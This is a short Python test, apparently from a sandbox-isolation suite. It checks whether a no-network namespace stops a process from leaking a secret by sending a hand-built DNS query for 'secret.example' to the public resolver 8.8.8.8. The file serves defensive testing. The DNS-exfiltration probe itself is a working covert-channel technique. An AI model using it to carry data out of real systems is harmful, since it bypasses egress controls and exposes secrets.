# SPDX-License-Identifier: Apache-2.0
#
# Tries to: carry a secret out in the name that a public resolver is asked for
# Promise:  no-network
# Oracle:   network
# Stops:    ENETUNREACH=namespace
# Not promised: process=process-network
import errno
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x06secret\x07example\0\0\1\0\1"
try:
    s.sendto(query, ("8.8.8.8", 53))
except OSError as e:
    print("stopped:", errno.errorcode.get(e.errno, e), "at sendto")
